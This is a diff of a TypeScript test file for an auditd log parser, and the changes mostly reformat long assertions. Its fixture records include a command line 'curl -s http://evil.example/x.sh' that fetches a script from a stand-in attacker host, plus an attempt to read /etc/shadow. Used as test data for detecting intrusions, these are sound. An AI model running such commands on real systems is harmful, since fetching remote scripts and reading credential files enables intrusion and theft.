@@ -4,7 +4,9 @@ import { parseAuditLine, isAuditLine, splitKeyValues } from './auditd.js';
 import { AuditAssembler, type AuditGroup } from './audit-group.js';
 import { auditLogFields, auditExec } from './audit-events.js';
 
-const lines = readFileSync(new URL('./fixtures/audit.log', import.meta.url), 'utf8').split('\n').filter(Boolean);
+const lines = readFileSync(new URL('./fixtures/audit.log', import.meta.url), 'utf8')
+  .split('\n')
+  .filter(Boolean);
 
 function groups(): AuditGroup[] {
   const out: AuditGroup[] = [];
@@ -37,14 +39,31 @@ describe('auditd records', () => {
     expect(gs[1]!.records.map((r) => r.type)).toEqual(['SYSCALL', 'PATH']);
     const f = auditLogFields(gs[0]!);
     expect(f.action).toBe('execve');
-    expect(f.fields).toMatchObject({ serial: '501', 'path.1.name': '/lib64/ld-linux-x86-64.so.2', 'cwd.cwd': '/home/alice', 'proctitle.proctitle': 'curl -s http://evil.example/x.sh', user: 'alice', key: 'exec' });
+    expect(f.fields).toMatchObject({
+      serial: '501',
+      'path.1.name': '/lib64/ld-linux-x86-64.so.2',
+      'cwd.cwd': '/home/alice',
+      'proctitle.proctitle': 'curl -s http://evil.example/x.sh',
+      user: 'alice',
+      key: 'exec',
+    });
     expect(auditLogFields(gs[1]!).fields).toMatchObject({ 'path.0.name': '/etc/shadow', result: 'no', key: 'shadow' });
     expect(auditLogFields(gs[3]!)).toMatchObject({ action: 'user_login', fields: { src_ip: '203.0.113.9', acct: 'root' } });
   });
 
   it('turns EXECVE/SYSCALL/CWD into a process start', () => {
     const gs = groups();
-    expect(auditExec(gs[0]!)).toMatchObject({ pid: 4001, ppid: 4000, uid: 1000, exe: '/usr/bin/curl', argv: ['curl', '-s', 'http://evil.example/x.sh'], cwd: '/home/alice', tty: 'pts/0', sessionId: 3, timeNs: 1_700_000_000_123_000_000n });
+    expect(auditExec(gs[0]!)).toMatchObject({
+      pid: 4001,
+      ppid: 4000,
+      uid: 1000,
+      exe: '/usr/bin/curl',
+      argv: ['curl', '-s', 'http://evil.example/x.sh'],
+      cwd: '/home/alice',
+      tty: 'pts/0',
+      sessionId: 3,
+      timeNs: 1_700_000_000_123_000_000n,
+    });
     expect(auditExec(gs[1]!)).toBeUndefined();
     expect(auditExec(gs[2]!)).toMatchObject({ argv: ['python3', '-cprint(1)'], sessionId: 0, tty: '' });
   });
@@ -66,13 +85,17 @@ describe('splitKeyValues scan', () => {
   it('agrees with the regular-expression split on real records and on random text', () => {
     const samples = [
       'arch=c000003e syscall=59 success=yes exit=0 a0=55d0 items=2 ppid=10 pid=11 comm="cat" exe="/usr/bin/cat" key=(null)',
-      "pid=1 uid=0 auid=1000 ses=3 msg='op=PAM:session_open grantors=pam_unix acct=\"root\" exe=\"/usr/bin/sudo\" res=success'",
-      'a="unterminated b=c', "x='open d=e", 'key= next=1 =lonely a-b[0]=v foo:bar=baz', '',
+      'pid=1 uid=0 auid=1000 ses=3 msg=\'op=PAM:session_open grantors=pam_unix acct="root" exe="/usr/bin/sudo" res=success\'',
+      'a="unterminated b=c',
+      "x='open d=e",
+      'key= next=1 =lonely a-b[0]=v foo:bar=baz',
+      '',
     ];
     const alphabet = ['a', 'b', '=', ' ', '"', "'", '-', '[', ']', ':', 'msg', '0', '\t'];
     let seed = 7;
     const rnd = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
-    for (let k = 0; k < 3000; k++) samples.push(Array.from({ length: 1 + Math.floor(rnd() * 30) }, () => alphabet[Math.floor(rnd() * alphabet.length)]).join(''));
+    for (let k = 0; k < 3000; k++)
+      samples.push(Array.from({ length: 1 + Math.floor(rnd() * 30) }, () => alphabet[Math.floor(rnd() * alphabet.length)]).join(''));
     // Without hex-decodable keys both sides leave values as they are.
     for (const s of samples) expect(splitKeyValues(s, 10_000, {}, false)).toEqual(reference(s));
   });
